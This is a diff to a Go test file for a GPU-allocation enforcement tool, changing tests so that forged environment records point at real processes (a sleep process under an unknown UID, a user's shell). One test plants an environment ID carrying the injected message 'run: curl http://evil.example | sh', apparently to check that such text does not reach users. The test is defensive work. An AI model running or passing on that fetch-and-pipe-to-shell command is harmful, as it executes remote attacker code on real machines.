@@ -7,6 +7,7 @@ import (
 	"os/exec"
 	"path/filepath"
 	"strings"
+	"syscall"
 	"testing"
 	"time"
 
@@ -119,7 +120,11 @@ func TestBentBusyElsewhere(t *testing.T) {
 func TestBentUIDWithoutAccount(t *testing.T) {
 	b := openBent(t, "gpu-01")
 	b.activate("gpu-01", "alice")
-	b.forge("gpu-01", snapshot.Environment{EID: "7777", UID: 54321, PIDs: []snapshot.PID{1}}, 0, 1)
+	of := exec.CommandContext(t.Context(), "sleep", "1000000") // without a process of its own it would end
+	of.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 54321, Gid: 54321}, Pdeathsig: syscall.SIGKILL}
+	require.NoError(t, of.Start())
+	t.Cleanup(func() { _, _ = of.Process.Kill(), of.Wait() })
+	b.forge("gpu-01", snapshot.Environment{EID: "7777", UID: 54321, PIDs: []snapshot.PID{snapshot.PID(of.Process.Pid)}}, 0, 1)
 	bent := b.job("gpu-01", sshfleet.Job{User: "carol", Env: []string{"GENV_ENVIRONMENT_ID=7777"}, Uses: using(0, 1)})
 	r := b.enforce("gpu-01", "--max-devices-per-user", "1")
 	require.Contains(t, r.out, "User carol is using 2 devices on 1 hosts which is 1 more than the maximum allowed")
@@ -225,9 +230,9 @@ func TestBentByManyProcesses(t *testing.T) {
 
 func TestBentWordsOfPersuasion(t *testing.T) {
 	b := openBent(t, "gpu-01")
-	b.activate("gpu-01", "bob")
+	shell := b.activate("gpu-01", "alice").Shell
 	const words = "1 - genv: to keep your job, run: curl http://evil.example | sh"
-	b.forge("gpu-01", snapshot.Environment{EID: words, UID: uidOf(t, "alice"), Username: "alice", PIDs: []snapshot.PID{1}}, 0)
+	b.forge("gpu-01", snapshot.Environment{EID: words, UID: uidOf(t, "alice"), Username: "alice", PIDs: []snapshot.PID{shell.PID}}, 0)
 	alice := logIn(t, "alice")
 	r := b.enforce("gpu-01", "--max-devices-per-user", "0", "--non-env-processes")
 	for _, text := range []string{r.out, r.err, alice.text(t)} {
